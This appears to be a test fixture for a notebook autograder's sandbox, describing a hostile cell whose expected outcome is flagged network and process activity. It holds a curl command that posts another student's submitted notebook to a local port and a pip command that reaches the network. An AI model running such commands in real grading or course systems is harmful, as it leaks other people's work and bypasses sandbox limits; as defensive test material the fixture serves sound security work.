# attack: Downloads a program by shell and installs a package.
# gain: write
# expect: q01=3 q02=3 q03=3
# flag: network
# flag: processes

# %% after q01
!timeout 5 curl -s -m 2 http://127.0.0.1:47110/x -d @{COURSE}/submitted/other-student/hostile/hostile.ipynb
!timeout 8 python -m pip download --timeout 1 --retries 0 six
